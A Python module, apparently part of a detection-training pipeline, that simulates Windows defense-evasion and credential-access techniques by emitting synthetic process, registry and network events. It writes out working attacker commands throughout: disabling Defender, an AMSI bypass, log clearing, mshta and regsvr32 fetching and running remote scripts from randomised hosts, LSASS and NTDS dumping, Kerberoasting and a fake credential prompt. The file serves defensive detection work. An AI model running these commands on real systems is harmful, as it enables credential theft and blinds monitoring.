"""Simulated Windows attacks, part 2: defense evasion and credential access.

Behaviour follows the public descriptions of the registered ATT&CK technique ids (ATT&CK pages,
Atomic Red Team tests, LOLBAS entries); every name, path and order is randomised.
"""

from __future__ import annotations

from pipeline.training.sim.builder import Proc
from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session
from pipeline.training.sim.vocab import sys32
from pipeline.training.sim.win_attack1 import LSASS_RIGHTS, _download, _payload_path
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add


def _lsass(s: Session) -> Proc:
    return s.b.existing(sys32(s.r, "lsass.exe"), user="NT AUTHORITY\\SYSTEM")


# --- DefenseEvasion (TA0005) -------------------------------------------------------------------

@add("T1562.001", "DefenseEvasion")
def disable_defender(s: Session) -> None:
    """Defender real-time protection, AMSI or the service are switched off or excluded."""
    b, r = s.b, s.r
    choice = r.rng.randrange(4)
    if choice == 0:
        s.ps(r.pick(("Set-MpPreference -DisableRealtimeMonitoring $true", "Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true",
                     f"Add-MpPreference -ExclusionPath '{s.wdir()}'", "Add-MpPreference -ExclusionExtension 'exe'")), encoded=0.3)
    elif choice == 1:
        p = s.run(sys32(r, "reg.exe"), 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f', via_shell=0.4)
        b.reg(p, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DisableAntiSpyware", "DWORD (0x00000001)")
    elif choice == 2:
        for svc in r.sample(("WinDefend", "Sense", "WdNisSvc", "SecurityHealthService", "wscsvc"), r.num(1, 3)):
            s.run(sys32(r, "sc.exe"), f"sc {r.pick(('stop', 'config'))} {svc}{r.pick(('', ' start= disabled'))}", via_shell=0.3)
    else:
        s.ps("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", encoded=0.5)


@add("T1070.001", "DefenseEvasion")
def clear_event_logs(s: Session) -> None:
    """Event logs are cleared (wevtutil cl, Clear-EventLog)."""
    r = s.r
    logs = r.sample(("Security", "System", "Application", "Microsoft-Windows-Sysmon/Operational", "Windows PowerShell"), r.num(1, 4))
    if r.chance(0.6):
        for log in logs:
            s.run(sys32(r, "wevtutil.exe"), f'wevtutil {r.pick(("cl", "clear-log"))} "{log}"', via_shell=0.3)
    else:
        s.ps(f"Clear-EventLog -LogName {','.join(lg for lg in logs if '/' not in lg) or 'Security'}")


@add("T1218.005", "DefenseEvasion")
def mshta_proxy(s: Session) -> None:
    """mshta runs remote or inline script (LOLBAS: Mshta)."""
    b, r = s.b, s.r
    cmd = r.pick((f"mshta.exe http://{r.domain()}/{r.name('hta')}",
                  f'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c {r.token()}"":close")',
                  f"mshta.exe javascript:a=GetObject('script:https://{r.domain()}/{r.name('sct')}').Exec();close();",
                  f'mshta "{s.wdir()}\\{r.name("hta")}"'))
    p = s.run(sys32(r, "mshta.exe"), cmd, via_shell=0.3)
    b.load(p, sys32(r, r.pick(("jscript9.dll", "vbscript.dll", "scrobj.dll"))))
    if "http" in cmd:
        b.connect(p, r.ext_ip(), r.pick((80, 443)))
    if r.chance(0.6):
        Session(b, r, s.user, p, s.dirs).ps(f"IEX (iwr http://{r.domain()}/{r.token()} -UseBasicParsing)", encoded=0.5)


@add("T1218.010", "DefenseEvasion")
def regsvr32_squiblydoo(s: Session) -> None:
    """regsvr32 /s /n /u /i:<url> scrobj.dll fetches and runs a scriptlet (LOLBAS: Regsvr32)."""
    b, r = s.b, s.r
    target = r.pick((f"http://{r.domain()}/{r.name('sct')}", f"{s.wdir()}\\{r.name('sct')}"))
    p = s.run(sys32(r, r.pick(("regsvr32.exe", "..\\SysWOW64\\regsvr32.exe")).replace("System32\\..\\", "")),
              f"regsvr32.exe /s /n /u /i:{target} scrobj.dll", via_shell=0.3)
    b.load(p, sys32(r, "scrobj.dll"))
    if target.startswith("http"):
        b.connect(p, r.ext_ip(), 80)
    if r.chance(0.5):
        Session(b, r, s.user, p, s.dirs).run(sys32(r, "cmd.exe"), f"cmd.exe /c {_payload_path(s)}")


@add("T1218", "DefenseEvasion")
def signed_binary_proxy(s: Session) -> None:
    """Other LOLBins proxy execution: InstallUtil, MSBuild, CMSTP, odbcconf, msiexec, control, hh, mavinject."""
    b, r = s.b, s.r
    dll = _payload_path(s, "dll")
    fw = f"C:\\Windows\\Microsoft.NET\\Framework{r.pick(('', '64'))}\\v4.0.30319"
    image, cmd = r.pick(((f"{fw}\\InstallUtil.exe", f"{fw}\\InstallUtil.exe /logfile= /LogToConsole=false /U {dll}"),
                         (f"{fw}\\MSBuild.exe", f"{fw}\\MSBuild.exe {s.wdir()}\\{r.name(r.pick(('xml', 'csproj')))}"),
                         (sys32(r, "cmstp.exe"), f"cmstp.exe /s {s.wdir()}\\{r.name('inf')} /au"),
                         (sys32(r, "odbcconf.exe"), f"odbcconf.exe /a {{REGSVR {dll}}}"),
                         (sys32(r, "msiexec.exe"), f"msiexec.exe /q /i http://{r.domain()}/{r.name('msi')}"),
                         (sys32(r, "control.exe"), f"control.exe {s.wdir()}\\{r.name('cpl')}"),
                         ("C:\\Windows\\hh.exe", f"hh.exe {s.wdir()}\\{r.name('chm')}"),
                         (sys32(r, "mavinject.exe"), f"mavinject.exe {r.num(500, 9000)} /INJECTRUNNING {dll}"),
                         (f"{fw}\\RegAsm.exe", f"{fw}\\RegAsm.exe /U {dll}")))
    p = s.run(image, cmd, via_shell=0.3)
    b.load(p, dll, signed=False)
    if r.chance(0.5):
        b.connect(p, r.ext_ip(), r.pick((443, 80, 8080)))
    if r.chance(0.4):
        Session(b, r, s.user, p, s.dirs).run(sys32(r, "cmd.exe"), "cmd.exe")


@add("T1055", "DefenseEvasion")
def process_injection(s: Session) -> None:
    """A process opens another with write rights and starts a remote thread in it."""
    b, r = s.b, s.r
    tool = s.run(_payload_path(s), f"{_payload_path(s)} {r.pick(('', str(r.num(500, 9000)), '-i', 'inject'))}") if r.chance(0.5) else s.ps(
        f"Invoke-{r.pick(('Shellcode', 'ReflectivePEInjection', 'DllInjection'))} -ProcessID {r.num(500, 9000)} -Force", encoded=0.5)
    victim_image = r.pick((r.case("C:\\Windows\\explorer.exe"), sys32(r, "notepad.exe"), sys32(r, "svchost.exe"),
                           sys32(r, "RuntimeBroker.exe"), sys32(r, "spoolsv.exe"), "C:\\Program Files\\Internet Explorer\\iexplore.exe"))
    if r.chance(0.5):
        victim = s.run(victim_image, victim_image.rsplit("\\", 1)[1], parent=tool)
    else:
        victim = b.existing(victim_image, user=s.shell.user)
    b.access(tool, victim, r.pick((0x1FFFFF, 0x1F3FFF, 0x143A, 0x1028)))
    b.inject(tool, victim)
    b.connect(victim, r.ext_ip(), r.pick((443, 80)))


@add("T1036.005", "DefenseEvasion")
def masquerade_system_binary(s: Session) -> None:
    """A payload copied under a system binary's name but outside System32 (svchost.exe in Public)."""
    b, r = s.b, s.r
    name = r.pick(("svchost.exe", "lsass.exe", "csrss.exe", "explorer.exe", "RuntimeBroker.exe", "taskhostw.exe", "dllhost.exe"))
    folder = r.pick(("C:\\Users\\Public", "C:\\ProgramData", "C:\\Windows\\Temp", s.wdir()))
    fake = f"{folder}\\{name}"
    s.run(sys32(r, "cmd.exe"), f"cmd.exe /c copy {_payload_path(s)} {fake}")
    b.create(s.shell, fake)
    p = s.run(fake, f"{fake} {r.pick(('-k netsvcs', '', '/service'))}")
    b.connect(p, r.ext_ip(), r.pick((443, 80, 8443)))


@add("T1140", "DefenseEvasion")
def deobfuscate_decode(s: Session) -> None:
    """certutil -decode / PowerShell base64 decode a staged payload, then run it."""
    b, r = s.b, s.r
    enc, out = f"{s.wdir()}\\{r.name(r.pick(('txt', 'b64', 'crt')))}", _payload_path(s)
    _download(s, enc)
    p = s.run(sys32(r, "certutil.exe"), f"certutil {r.pick(('-decode', '-decodehex'))} {enc} {out}", via_shell=0.3)
    b.write(p, out)
    s.run(out, out)


@add("T1070.004", "DefenseEvasion")
def indicator_removal(s: Session) -> None:
    """Tools and output are deleted and timestamps/attributes hidden after use."""
    b, r = s.b, s.r
    files = [_payload_path(s, r.pick(("exe", "dll", "ps1", "bat", "txt"))) for _ in range(r.num(1, 4))]
    for f in files:
        if r.chance(0.5):
            s.run(sys32(r, "attrib.exe"), f"attrib +h +s {f}")
    for f in files:
        p = s.cmd(f"del /f /q {f}")
        b.delete(p, f)
    if r.chance(0.4):
        s.ps(f"(Get-Item '{files[0]}').LastWriteTime = '01/01/2019 10:00:00'")


@add("T1562.004", "DefenseEvasion")
def firewall_modify(s: Session) -> None:
    """The host firewall is turned off or opened (netsh advfirewall)."""
    r = s.r
    cmd = r.pick(("netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable",
                  f'netsh advfirewall firewall add rule name="{r.word()}" dir=in action=allow protocol=TCP localport={r.num(1000, 60000)}',
                  f'netsh advfirewall firewall add rule name="{r.word()}" dir=in action=allow program="{_payload_path(s)}" enable=yes',
                  f"netsh interface portproxy add v4tov4 listenport={r.num(1000, 60000)} connectaddress={r.int_ip()} connectport=3389"))
    s.run(sys32(r, "netsh.exe"), cmd, via_shell=0.3)


@add("T1562.002", "DefenseEvasion")
def disable_logging(s: Session) -> None:
    """Windows event logging is crippled: auditpol, EventLog service, MiniNt key, cmdline logging."""
    b, r = s.b, s.r
    choice = r.rng.randrange(4)
    if choice == 0:
        s.run(sys32(r, "auditpol.exe"), r.pick(("auditpol /clear /y", f'auditpol /set /category:"{r.pick(("Logon/Logoff", "Account Logon", "DS Access"))}" /success:disable /failure:disable', "auditpol /remove /allusers")), via_shell=0.4)
    elif choice == 1:
        p = s.run(sys32(r, "reg.exe"), "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt /f", via_shell=0.4)
        b.reg(p, "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", None, None, "create_key")
    elif choice == 2:
        p = s.run(sys32(r, "reg.exe"), "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog /v Start /t REG_DWORD /d 4 /f", via_shell=0.4)
        b.reg(p, "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start", "Start", "DWORD (0x00000004)")
    else:
        p = s.run(sys32(r, "reg.exe"), "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 0 /f")
        b.reg(p, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit\\ProcessCreationIncludeCmdLine_Enabled", "ProcessCreationIncludeCmdLine_Enabled", "DWORD (0x00000000)")


# --- CredentialAccess (TA0006) -----------------------------------------------------------------

@add("T1003.001", "CredentialAccess")
def lsass_dump(s: Session) -> None:
    """LSASS memory is read or dumped (procdump, comsvcs MiniDump, a custom dumper, Mimikatz)."""
    b, r = s.b, s.r
    lsass = _lsass(s)
    dump = f"{s.wdir()}\\{r.pick(('lsass', 'debug', r.token(), 'out'))}.{r.pick(('dmp', 'bin', 'txt', 'zip'))}"
    choice = r.rng.randrange(4)
    if choice == 0:
        tool = f"{s.wdir()}\\{r.pick(('procdump64.exe', 'procdump.exe', r.name('exe')))}"
        p = s.run(tool, f"{tool} -accepteula -ma {r.pick(('lsass.exe', str(r.num(500, 900))))} {dump}", integrity="High")
    elif choice == 1:
        p = s.run(sys32(r, "rundll32.exe"), f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, {r.pick(('MiniDump', '#24'))} {r.num(500, 900)} {dump} full", via_shell=0.5, integrity="High")
    elif choice == 2:
        tool = _payload_path(s)
        p = s.run(tool, f"{tool}{r.pick(('', ' -o ' + dump, ' --write ' + dump))}", integrity="High")
    else:
        p = s.ps(r.pick(("Invoke-Mimikatz -DumpCreds", "Out-Minidump -Process (Get-Process lsass)", "sekurlsa::logonpasswords")), encoded=0.5)
    b.load(p, sys32(r, r.pick(("dbghelp.dll", "dbgcore.dll"))))
    b.access(p, lsass, r.pick(LSASS_RIGHTS), "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000)")
    b.create(p, dump)
    b.write(p, dump, r.num(20_000_000, 90_000_000))


@add("T1003.002", "CredentialAccess")
def sam_dump(s: Session) -> None:
    """SAM/SYSTEM/SECURITY hives are saved or copied from a shadow copy."""
    b, r = s.b, s.r
    out = s.wdir()
    if r.chance(0.6):
        for hive in r.sample(("sam", "system", "security"), r.num(1, 3)):
            p = s.run(sys32(r, "reg.exe"), f"reg save HKLM\\{hive} {out}\\{r.pick((hive, r.token()))}{r.pick(('', '.hiv', '.save'))}{r.pick(('', ' /y'))}", via_shell=0.4, integrity="High")
            b.create(p, f"{out}\\{hive}")
    else:
        p = s.run(sys32(r, "esentutl.exe"), f"esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d {out}\\{r.token()}", integrity="High")
        b.write(p, f"{out}\\{r.token()}")


@add("T1003.003", "CredentialAccess")
def ntds_dump(s: Session) -> None:
    """NTDS.dit is copied via ntdsutil IFM or a volume shadow copy."""
    b, r = s.b, s.r
    folder = r.pick(("C:\\Windows\\Temp", "C:\\ProgramData", "C:\\Users\\Public"))
    out = f"{folder}\\{r.token()}"
    if r.chance(0.5):
        p = s.run(sys32(r, "ntdsutil.exe"), f'ntdsutil "ac i ntds" "ifm" "create full {out}" q q', via_shell=0.3, integrity="High")
    else:
        s.run(sys32(r, "vssadmin.exe"), "vssadmin create shadow /for=C:", via_shell=0.3, integrity="High")
        n = r.num(1, 9)
        p = s.cmd(f"copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{n}\\Windows\\NTDS\\ntds.dit {out}\\ntds.dit")
        s.cmd(f"copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{n}\\Windows\\System32\\config\\SYSTEM {out}\\SYSTEM")
    b.create(p, f"{out}\\Active Directory\\ntds.dit")
    b.write(p, f"{out}\\registry\\SYSTEM")


@add("T1558.003", "CredentialAccess")
def kerberoast(s: Session) -> None:
    """Service tickets are requested for SPN accounts (Rubeus, Invoke-Kerberoast, setspn)."""
    b, r = s.b, s.r
    dc = r.int_ip()
    if r.chance(0.5):
        tool = _payload_path(s)
        p = s.run(tool, f"{tool} {r.pick(('kerberoast /outfile:' + s.wdir() + chr(92) + 'h.txt', 'asktgt /user:' + r.token() + ' /rc4:' + r.hexstr(32) + ' /ptt', 'kerberoast /nowrap', 'dump /service:krbtgt'))}")
    else:
        p = s.ps(r.pick(("Invoke-Kerberoast -OutputFormat Hashcat | fl", "Add-Type -AssemblyName System.IdentityModel; setspn -T corp -Q */* | Select-String '^CN' -Context 0,1 | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Context.PostContext[0].Trim() }")))
    for _ in range(r.num(2, 12)):
        b.connect(p, dc, 88)
    b.connect(p, dc, 389)


@add("T1555.003", "CredentialAccess")
def browser_credentials(s: Session) -> None:
    """Browser credential stores and the Windows vault are read by a non-browser process."""
    b, r = s.b, s.r
    tool = r.pick((_payload_path(s), "ps"))
    if tool == "ps":
        p = s.ps(r.pick(("[Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime];(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll() | % { $_.RetrievePassword();$_ }",
                         "Get-ChildItem $env:LOCALAPPDATA\\Google\\Chrome\\'User Data'\\Default\\'Login Data'")))
    else:
        p = s.run(tool, f"{tool} {r.pick(('all', 'browsers', '-b chrome', ''))}")
    for store in r.sample((f"C:\\Users\\{s.user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
                           f"C:\\Users\\{s.user}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data",
                           f"C:\\Users\\{s.user}\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\{r.token()}.default\\logins.json",
                           f"C:\\Users\\{s.user}\\AppData\\Local\\Google\\Chrome\\User Data\\Local State"), r.num(1, 3)):
        b.create(p, f"{s.wdir()}\\{store.rsplit(chr(92), 1)[1].replace(' ', '_')}.tmp")
    b.load(p, sys32(r, r.pick(("vaultcli.dll", "crypt32.dll"))))


@add("T1552.001", "CredentialAccess")
def credentials_in_files(s: Session) -> None:
    """Files are searched for passwords (findstr /si password, Select-String)."""
    r = s.r
    cmd = r.pick(("findstr /si password *.xml *.ini *.txt *.config", "findstr /spin \"password\" *.*",
                  f"dir /s /b C:\\Users\\{s.user}\\*pass* *cred* *vnc* *.config", "cmdkey /list",
                  "reg query HKLM /f password /t REG_SZ /s", "reg query \"HKCU\\Software\\SimonTatham\\PuTTY\\Sessions\" /s"))
    if cmd.startswith(("findstr", "dir")):
        s.cmd(cmd)
    else:
        image = sys32(r, cmd.split()[0] + ".exe")
        s.run(image, cmd, via_shell=0.4)
    if r.chance(0.5):
        s.ps("Get-ChildItem -Path C:\\ -Include *.kdbx,unattend.xml,*.rdp -Recurse -ErrorAction SilentlyContinue")


@add("T1056.002", "CredentialAccess")
def credential_prompt(s: Session) -> None:
    """A fake credential prompt (PromptForCredential) captures the user's password."""
    r = s.r
    s.ps(f"$c=$host.UI.PromptForCredential('{r.pick(('Windows Security', 'Microsoft Outlook', 'Update required'))}','Enter credentials',[Environment]::UserName,[Environment]::UserDomainName);$c.GetNetworkCredential().Password | Out-File {s.wdir()}\\{r.name('txt')}", encoded=0.4)


@add("T1110.003", "CredentialAccess")
def password_spray(s: Session) -> None:
    """Many authentication attempts against hosts on SMB/LDAP/Kerberos from one process."""
    b, r = s.b, s.r
    tool = _payload_path(s)
    p = s.run(tool, f"{tool} {r.pick(('spray', 'smb', '-u users.txt -p ' + r.token(), 'brute'))}") if r.chance(0.5) else s.ps(
        f"Invoke-DomainPasswordSpray -Password {r.token(6, 10)}")
    targets = [r.int_ip() for _ in range(r.num(1, 5))]
    for _ in range(r.num(15, 60)):
        b.connect(p, r.pick(targets), r.pick((445, 389, 88, 636)))
